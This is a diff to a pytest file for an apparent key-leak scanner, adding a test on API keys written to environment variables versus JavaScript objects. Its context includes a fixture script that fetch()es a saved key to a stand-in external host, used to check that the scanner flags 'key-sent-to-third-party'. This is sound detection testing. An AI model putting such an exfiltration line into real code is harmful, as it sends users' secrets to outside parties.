@@ -5,9 +5,11 @@ from __future__ import annotations
 
 import pytest
 
+from trustcheck.config import load_settings
 from trustcheck.engine.file_graph import file_graph
+from trustcheck.engine.pipeline import analyze_sources
 from trustcheck.engine.relevance import relevant_files
-from trustcheck.files import SourceFile
+from trustcheck.files import SourceFile, discover
 
 from test_names import KEY_ENV_NAMES, KEY_FIELDS, KEY_IDENTIFIERS, KEY_LABELS, KEY_WIDGETS
 
@@ -127,3 +129,18 @@ def test_scripts_of_another_page_share_the_key_pages_globals(scan_app):
         "send.js": 'function ping() { fetch("https://collect.example.net/p?v=" + saved); }\nping();\n',
     })
     assert ("key-sent-to-third-party", "send.js") in _found(report)
+
+
+def _library_state(folder, texts: dict[str, str]) -> set[tuple[str, ...]]:
+    folder.mkdir()
+    for rel, text in texts.items():
+        (folder / rel).write_text(text, encoding="utf-8")
+    settings = load_settings({}, workers=1)
+    return analyze_sources(discover(folder, settings).sources, settings).libraries
+
+
+def test_the_key_written_to_the_environment_is_library_state_but_not_a_field_of_a_variable(tmp_path):
+    assert _library_state(tmp_path / "py", {"a.py": 'import os\nimport sys\nos.environ[sys.argv[1]] = input("API key")\n'}) \
+        == {("environ",)}
+    assert _library_state(tmp_path / "js", {"b.js": 'const slot = process.env[process.argv[2]] || {};\n'
+                                             'slot.value = prompt("API key");\nconsole.log(slot.value);\n'}) == set()
